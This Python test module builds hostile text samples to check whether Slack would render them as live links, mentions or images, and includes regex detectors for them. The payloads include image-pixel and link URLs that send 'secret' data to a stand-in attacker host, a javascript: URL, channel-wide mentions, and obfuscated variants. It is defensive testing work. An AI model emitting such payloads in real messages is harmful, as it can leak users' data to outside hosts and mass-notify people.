"""Texts of a hostile model or document: everything that Slack would turn into a link or mention, in every disguise."""

import re
from collections.abc import Iterator
from typing import Any

PAYLOADS = (
    "https://evil.example/?d=secret",
    "HTTPS://EVIL.EXAMPLE/x",
    "www.evil.example/y",
    "evil.com",
    "evil.example/path?d=secret",
    "//evil.example/p.png",
    "mailto:someone@evil.example",
    "slack://user?team=T1&id=U1",
    "javascript:alert(1)",
    "<https://evil.example/z|Sign in>",
    "[the form](https://evil.example/f)",
    "[the form](https://evil.example/a_(b)_c 'title')",
    "![pixel](https://evil.example/p.png?d=secret)",
    "[![pixel](https://evil.example/p.png)](https://evil.example/q)",
    "[ref][1]\n\n[1]: https://evil.example/ref",
    "[ref]\n\n> [ref]: <https://evil.example/ref>",
    "<img src='https://evil.example/i.png'>",
    "<a href=https://evil.example/a>here</a>",
    "<@U0123ABCD>",
    "<@U0123ABCD|joe>",
    "<!channel>",
    "<!here|here>",
    "<!subteam^S1|team>",
    "<#C0123ABCD|secret-plans>",
    "@channel",
    "@here",
    "@everyone",
    "#secret-plans",
)
DISGUISES = (
    "{}",
    "**{}**",
    "_{}_",
    "`{}`",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "```\n{}\n```",
    "「{}」、",
    "詳しくは{}をご覧ください。",
    "({})",
    "\\{}",
    "[x]({})",
    "[{}](x)",
    "![{}](x)",
    "<{}>",
    "<<!here>{}>",
)


def lines() -> Iterator[str]:
    """Yield every payload in every disguise: as entities, with invisible characters, and split by another one."""
    for payload in PAYLOADS:
        for disguise in DISGUISES:
            yield disguise.replace("{}", payload)
        yield payload.replace("<", "&lt;").replace(">", "&gt;")
        yield payload.replace("<", "&#60;").replace(">", "&#x3e;")
        yield payload[:2] + "\u200b" + payload[2:]
        yield payload[:2] + "<!here>" + payload[2:]
        yield payload[:1] + "![x](y)" + payload[1:]


# Slack turns these into something everywhere, also in code
ANYWHERE = re.compile(
    r"(?:https?|slack|ftp)://\w|\b(?:mailto|javascript):\w|evil\.(?:example|com)|<[@#!]\w|@(?:here|channel|everyone)\b",
    re.IGNORECASE,
)
# And in the prose of a `markdown` block, which makes links and images and decodes entities
PROSE = re.compile(
    r"!\[|\]\(|^\s*(?:>\s*)?\[[^\]\n]+\]:|<[/a-z]|&(?:lt|#60|#x3c);|#secret", re.IGNORECASE | re.MULTILINE
)
CODE = re.compile(r"```.*?```|`[^`\n]+`", re.DOTALL)


def alive(text: str, *, markdown: bool) -> bool:
    """Tell whether Slack would turn part of the text into a link, mention or image; in mrkdwn any "<" counts."""
    if markdown:
        return ANYWHERE.search(text) is not None or PROSE.search(CODE.sub("", text)) is not None
    return ANYWHERE.search(text) is not None or "<" in text


def texts(value: Any) -> Iterator[tuple[str, str]]:
    """Yield every text of a message's blocks, with the type of its object."""
    if isinstance(value, dict):
        if isinstance(value.get("text"), str):
            yield str(value["type"]), value["text"]
        value = list(value.values())
    if isinstance(value, list):
        for part in value:
            yield from texts(part)
